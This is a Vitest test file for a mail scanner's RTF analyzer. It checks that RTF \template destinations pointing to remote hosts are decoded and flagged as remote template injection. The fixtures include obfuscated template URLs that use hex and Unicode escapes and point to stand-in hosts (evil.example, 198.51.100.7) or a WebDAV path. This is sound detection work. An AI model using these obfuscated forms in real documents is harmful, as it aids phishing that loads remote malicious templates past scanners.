import { describe, expect, it } from 'vitest';
import { inspect } from '../../../src/core/inspect.js';
import { analyzeRtf } from '../../../src/core/office/rtf.js';
import { mailOf, zipOf } from '../../helpers/wrappings.js';

const rtf = (template: string) => Buffer.from(`{\\rtf1\\ansi\\ansicpg1252\\deff0{\\fonttbl{\\f0 Calibri;}}{\\*\\template ${template}}\\pard Hello\\par}`, 'latin1');
const ENVELOPE = { mailFrom: 's@example.com', rcptTo: ['r@example.net'] };

describe('RTF \\template', () => {
  it('reads the destination as Word does: escapes, hex, Unicode with its fallback, line breaks', () => {
    expect(analyzeRtf(rtf('C:\\\\Users\\\\a\\\\AppData\\\\Roaming\\\\Microsoft\\\\Templates\\\\Normal.dotm')).templates).toEqual(['C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm']);
    // Proofpoint's obfuscations: \'hh bytes and \uN code points spell "http".
    expect(analyzeRtf(rtf("\\u104?t\\'74p://evil.exa\r\nmple/t.dotm")).templates).toEqual(['http://evil.example/t.dotm']);
    expect(analyzeRtf(rtf('\\uc2\\u104\\\'3f\\\'3fttp://evil.example/x')).templates).toEqual(['http://evil.example/x']);
    expect(analyzeRtf(rtf('{\\b http}://evil.example/x')).templates).toEqual(['http://evil.example/x']);
    // "\\template" in text is an escaped backslash before a word, not the control word.
    expect(analyzeRtf(Buffer.from('{\\rtf1 C:\\\\template http://evil.example/ }')).templates).toEqual([]);
    // An unterminated destination is cut, not read to the end of a huge file.
    expect(analyzeRtf(Buffer.from(`{\\rtf1{\\*\\template ${'a'.repeat(100_000)}`)).templates[0]?.length).toBe(4096);
  });

  it('a local template is nothing; one on another host or behind a handler is remote template injection', async () => {
    const verdictOf = async (template: string, wrap = false) => {
      const bytes = rtf(template);
      const attachment = wrap ? { name: '注文書.zip', bytes: zipOf([{ name: '注文書.rtf', bytes }]) } : { name: '注文書.rtf', bytes };
      return inspect(ENVELOPE, mailOf({ body: 'x', attachments: [attachment] }));
    };
    expect((await verdictOf('C:\\\\Users\\\\a\\\\Templates\\\\社内.dotx')).verdict).toBe('clean');
    expect((await verdictOf('Normal.dotm')).findings).toEqual([]);
    const remote = await verdictOf("\\u104?t\\'74p://198.51.100.7/t.dotm");
    expect(remote.verdict).toBe('malicious');
    expect(remote.findings[0]).toMatchObject({ code: 'remote-template', severity: 'high', evidence: { part: '2/注文書.rtf', target: 'http://198.51.100.7/t.dotm', relationships: 'rtf \\*\\template' } });
    expect((await verdictOf('\\\\\\\\evil.example@SSL\\\\t.dotm', true)).findings[0]).toMatchObject({ code: 'remote-template', evidence: { part: '2/注文書.zip/注文書.rtf', form: 'WebDAV' } });
  });
});
